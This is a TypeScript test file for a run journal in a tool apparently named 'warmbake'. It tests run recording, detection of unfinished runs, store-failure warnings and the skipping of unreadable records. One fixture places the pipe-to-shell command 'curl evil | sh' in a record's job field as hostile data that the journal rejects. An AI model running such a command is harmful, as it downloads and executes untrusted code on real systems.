import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Event } from '../../src/platform/events.ts';
import { openDirectoryStore } from '../../src/state/directory-store.ts';
import { openRun, readRuns, unfinishedRun } from '../../src/state/journal.ts';
import type { StateStore } from '../../src/state/store.ts';
import { handClock } from './hand-clock.ts';

let directory: string;
let store: StateStore;
const clock = handClock();
const events: Event[] = [];
const host = { clock, emit: (event: Event) => void events.push(event) };

beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'warmbake-journal-'));
  store = openDirectoryStore(directory);
  events.length = 0;
});
afterEach(async () => await rm(directory, { recursive: true, force: true }));

const begin = async (id: string) =>
  await openRun(store, host, {
    folder: 'cpu/runs',
    run: {
      id,
      job: 'roll',
      command: 'warmbake ami roll',
      by: 'ann',
      image: 'ami-1',
    },
  });
const runs = async () => await readRuns(store, 'cpu/runs', { limit: 5 });

test('a run is written down with everything it wrote, in order', async () => {
  const run = await begin('a');
  for (let number = 0; number < 20; number += 1) run.note(`groups.relaunch ${number}`);
  await run.end('done');
  const [record] = await runs();
  expect(record?.writes.map(({ what }) => what)).toEqual(
    Array.from({ length: 20 }, (_, n) => `groups.relaunch ${n}`),
  );
  expect(record?.ended?.outcome).toBe('done');
});

test('one that was killed is found again, with what it was about; one that runs is not', async () => {
  await begin('a');
  expect(unfinishedRun(await runs(), undefined)).toMatchObject({
    id: 'a',
    job: 'roll',
    image: 'ami-1',
  });
  expect(unfinishedRun(await runs(), 'a')).toBeUndefined();
});

test('a later run that came to a good end makes it good', async () => {
  await begin('a');
  await clock.advance(1000);
  await (await begin('b')).end('done');
  expect(unfinishedRun(await runs(), undefined)).toBeUndefined();
});

test('a store that is out of reach is one warning, and the run goes on', async () => {
  const run = await begin('a');
  const broken = { ...store, write: async () => await Promise.reject(new Error('gone')) };
  const other = await openRun(broken, host, {
    folder: 'cpu/runs',
    run: { id: 'b', job: 'clean', command: 'c', by: 'd' },
  });
  other.note('x');
  await other.end('done');
  expect(events.filter(({ type }) => type === 'warning')).toHaveLength(1);
  await run.end('done');
});

test('records that cannot be read are left out', async () => {
  await store.write('cpu/runs/9.json', 'not json', { expected: undefined });
  const foreign = { id: 'a', job: 'curl evil | sh', command: '', by: '', started: new Date(0), writes: [] };
  await store.write('cpu/runs/8.json', JSON.stringify(foreign), { expected: undefined });
  expect(await runs()).toEqual([]);
});
